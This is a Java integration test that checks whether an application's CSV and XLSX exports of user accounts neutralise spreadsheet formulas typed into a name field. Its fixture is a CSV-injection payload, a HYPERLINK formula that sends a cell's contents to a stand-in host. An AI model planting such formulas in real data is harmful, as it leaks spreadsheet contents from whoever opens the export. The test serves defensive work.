package fr.education.orion.compte;

import static org.assertj.core.api.Assertions.assertThat;

import fr.education.orion.OrionIT;
import fr.education.orion.TestHttp;
import fr.education.orion.referentiel.CodeRegion;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * A user who names themself {@code =HYPERLINK(…)} does not plant a formula in the spreadsheet of
 * the administrator who exports the accounts (CSV injection): the CSV cell is prefixed with an
 * apostrophe, the XLSX cell is a string.
 */
@OrionIT
class ExportFormulesIT {

  private static final String FORMULE =
      "=HYPERLINK(\"https://exemple.invalid/?x=\"&A2,\"Cliquez\")";

  @LocalServerPort int port;
  @Autowired Comptes comptes;

  @Test
  void aFormulaTypedInANameIsExportedAsText() throws IOException {
    comptes.create(
        new FicheUtilisateur(
            "formule@example.fr",
            "+33 1 23",
            FORMULE,
            Role.INVITE,
            null,
            new CodeRegion("84"),
            List.of(),
            true));
    TestHttp admin = new TestHttp(port).connecteEnDemo("admin");

    String ligne =
        admin
            .get("/admin/utilisateurs/export.csv?q=formule", "text/csv")
            .body()
            .lines()
            .filter(l -> l.startsWith("formule@example.fr"))
            .findFirst()
            .orElseThrow();
    assertThat(ligne)
        .startsWith(
            "formule@example.fr;'+33 1 23;\"'=HYPERLINK(\"\"https://exemple.invalid/?x=\"\"&A2,"
                + "\"\"Cliquez\"\")\";invite;;84;");

    byte[] xlsx = admin.getBytes("/admin/utilisateurs/export.xlsx?q=formule");
    List<String> noms = new ArrayList<>();
    try (ReadableWorkbook classeur = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
      for (Row row : classeur.getFirstSheet().read()) {
        noms.add(row.getCellText(2));
      }
    }
    assertThat(noms).contains(FORMULE);
    assertThat(formules(xlsx)).as("formules de la feuille").isZero();
  }

  /** The cells of the workbook's sheets that hold a formula ({@code <f>} elements). */
  private static int formules(byte[] xlsx) throws IOException {
    Path fichier = Files.createTempFile("orion-export-", ".xlsx");
    try {
      Files.write(fichier, xlsx);
      int formules = 0;
      try (ZipFile zip = new ZipFile(fichier.toFile())) {
        for (ZipEntry entree : Collections.list(zip.entries())) {
          if (entree.getName().startsWith("xl/worksheets/")) {
            String feuille =
                new String(zip.getInputStream(entree).readAllBytes(), StandardCharsets.UTF_8);
            formules += feuille.split("<f[ >]", -1).length - 1;
          }
        }
      }
      return formules;
    } finally {
      Files.deleteIfExists(fichier);
    }
  }
}
